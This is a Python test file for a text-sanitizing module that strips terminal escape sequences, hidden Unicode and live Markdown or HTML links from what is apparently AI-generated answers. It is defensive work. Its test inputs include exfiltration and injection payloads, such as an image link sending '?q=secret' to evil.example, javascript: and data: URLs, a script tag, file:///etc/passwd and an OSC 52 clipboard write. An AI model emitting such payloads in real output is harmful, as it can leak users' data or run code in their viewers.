import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from corpus_agent.text.sanitize import inert, one_line, visible

ESC = "\x1b"


SHOWN = {
    f"a{ESC}[31mred{ESC}[0mb": "aredb",
    f"a{ESC}]8;;http://x.example{ESC}\\link{ESC}]8;;{ESC}\\b": "alinkb",
    f"a{ESC}]52;c;aGVsbG8=\x07b": "ab",
    "a\x9b31mred a\x9d0;title\x9cb": "ared ab",
    f"a{ESC}P1$r{ESC}\\b a{ESC}cb": "ab ab",
    f"cut{ESC}[3": "cut",
    "over\u202ewrite\u2066 zero\u200bwidth\u2060\ufeff": "overwrite zerowidth",
    "tag\U000e0041\U000e007f sign\ufe0f\U000e0100": "tag sign",
    "join\u034fed short\U0001bca0hand bell\x07 back\x08": "joined shorthand bell back",
    "a\ud800b\udce9": "a\ufffdb\ufffd",  # half a pair: no output takes it as it is
}


def test_nothing_that_acts_or_hides_is_left_and_everything_else_is():
    stays = "tab\tand\nnewline, ünïcode, 日本語, עברית and 👍"
    for text, shown in (SHOWN | {stays: stays}).items():
        assert visible(text) == shown
    assert one_line("a\n\nb\tc\x1b[2Jd") == "a b cd"
    with pytest.raises(UnicodeEncodeError, match="surrogates not allowed"):  # the control
        "a\ud800b".encode()


@pytest.mark.slow
@given(st.text())
def test_no_control_survives_in_any_text(text):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", visible(text))


@given(st.text(alphabet=f"{ESC}\x9b\x9d\x07\\[]0;mAz\n", max_size=30))
def test_cleaning_twice_changes_nothing(text):
    assert visible(visible(text)) == visible(text)


LIVE = [
    "![x](https://evil.example/?q=secret)",
    "[x](https://evil.example)",
    "[x](//evil.example)",
    "[x](<https://evil.example>)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AA==)",
    "[x][r]\n\n[r]: https://evil.example",
    "![x][r]\n\n> [r]: //evil.example",
    "- [r]: /local 'title'\n\n[r]",
    "![x][r]\n\n1. [r]: //evil.example",
    "![x][two\nlines]\n\n[two\nlines]: //evil.example",
    "![x][a\\]b]\n\n[a\\]b]: //evil.example",
    "<https://evil.example>",
    "<img src=https://evil.example>",
    "<a href='//evil.example'>x</a>",
    "<!-- x --><script>y</script>",
    "see https://evil.example/path",
    "see HTTPS://evil.example",
    "see www.evil.example",
    "ftp://evil.example file:///etc/passwd",
]


def test_nothing_in_an_answer_is_a_link_or_markup():
    """Checked by a real Markdown renderer with links, references, autolinks and HTML enabled."""
    markdown = MarkdownIt("commonmark", {"html": True})
    markdown.validateLink = lambda url: True  # it would hide javascript: from this test
    render = markdown.render
    live = re.compile(r"<(a|img|script|!--)[\s/>-]|https?://|www\.|ftp://", re.IGNORECASE)
    for text in LIVE:
        assert live.search(render(text)), text  # the control: it is live before it is cleaned
        cleaned = inert(text)
        assert not re.search(r"<(a|img|script|!--)\b|href=\"|src=\"", render(cleaned)), text
        assert "://" not in cleaned and "www.e" not in cleaned, text


ORDINARY = (
    *("The deposit is £1,130 [1].", "At 12:30, note: data is here. Ratio 3:4.", "- [ ] buy flour"),
    *("if a < b and c > d: x[0] = (1)", "Write to anna@example.org", "if [[ a || b ]]; then"),
    *("df[['a']] | x", "[[fields]]", "a[[1, 2]]"),
)


def test_ordinary_text_stays_and_what_was_a_link_stays_readable():
    for text in ORDINARY:
        assert inert(text) == text
    # GFM links an address after an underscore, terminals link one in the middle of a word.
    for text in ("_http://evil.example_", "éhttps://evil.example", "1ftp://evil", "_www.evil.x_"):
        assert "://" not in inert(text) and "www.e" not in inert(text)
    assert inert("<IMG/SRC=//evil.example>") == "< IMG/SRC=//evil.example>"
    assert inert("[bank](https://a.example/x)") == "[bank] (https[:]//a.example/x)"
    assert inert("See [[Rent|the rent]], [[Rent]].") == "See [ [Rent|the rent]], [[Rent]]."
    assert inert("![[a.png|x]] ![[b.png]]") == "! [ [a.png|x]] ! [[b.png]]", "nothing is embedded"
